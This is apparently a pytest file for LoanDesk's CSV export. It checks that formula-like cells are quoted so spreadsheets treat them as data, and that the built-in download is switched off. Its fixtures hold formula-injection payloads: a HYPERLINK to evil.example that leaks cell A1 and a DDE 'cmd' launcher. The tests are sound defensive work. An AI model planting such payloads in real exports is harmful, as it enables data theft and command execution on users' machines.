"""Every CSV LoanDesk writes opens in a spreadsheet as data, never as a formula."""

from __future__ import annotations

import csv
import io
import tomllib

import pandas as pd

from model.core.csvsafe import neutralize_text, safe_frame, to_csv_bytes
from model.records.log import DecisionLog, LogEntry
from ui.tables import export_frame

from .conftest import ROOT

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\tx", "\rx"]


def cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))


def test_cells_a_spreadsheet_would_run_get_a_quote_and_numbers_stay_numbers():
    assert [neutralize_text(t) for t in FORMULAS] == ["'" + t for t in FORMULAS]
    assert [neutralize_text(t) for t in ("-5", "+1.5e3", "-62,000", "Ada", "a=b")] == [
        "-5", "+1.5e3", "-62,000", "Ada", "a=b"]


def test_a_frame_is_made_safe_in_its_cells_column_names_and_categories():
    frame = pd.DataFrame({"=name": FORMULAS, "n": range(len(FORMULAS)),
                          "kind": pd.Categorical(["=x", "y", "=x", "y", "y", "y"])})
    rows = cells(to_csv_bytes(frame))
    assert rows[0] == ["'=name", "n", "kind"]
    assert [r[0] for r in rows[1:]] == ["'" + t for t in FORMULAS]
    assert [r[1] for r in rows[1:]] == [str(i) for i in range(len(FORMULAS))]
    assert [r[2] for r in rows[1:3]] == ["'=x", "y"]
    assert list(safe_frame(frame)["n"]) == list(range(len(FORMULAS)))  # numbers are not turned into text


def test_the_monitoring_export_neutralizes_an_officers_name_and_a_category_from_the_users_data(tmp_path):
    log = DecisionLog(f"sqlite:///{tmp_path / 'log.db'}")
    entry = LogEntry(model_name="m", model_version="20260101-000000-00000000", model_sha256="0" * 64,
                     source="form", officer='=HYPERLINK("http://evil.example","x")',
                     inputs={"home": "=1+1", "income": -5.0}, probability=0.7, threshold=0.5, decision=1,
                     reasons="=cmd")
    assert log.record(entry).ok
    rows = cells(to_csv_bytes(export_frame(log.read())))
    record = dict(zip(rows[0], rows[1], strict=True))
    assert record["officer"] == "'" + entry.officer
    assert record["home"] == "'=1+1" and record["income"] == "-5.0" and record["reasons"] == "'=cmd"


def test_tables_own_csv_download_is_switched_off_so_only_safe_downloads_are_offered():
    config = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text())
    assert config["client"]["disableDataExport"] is True
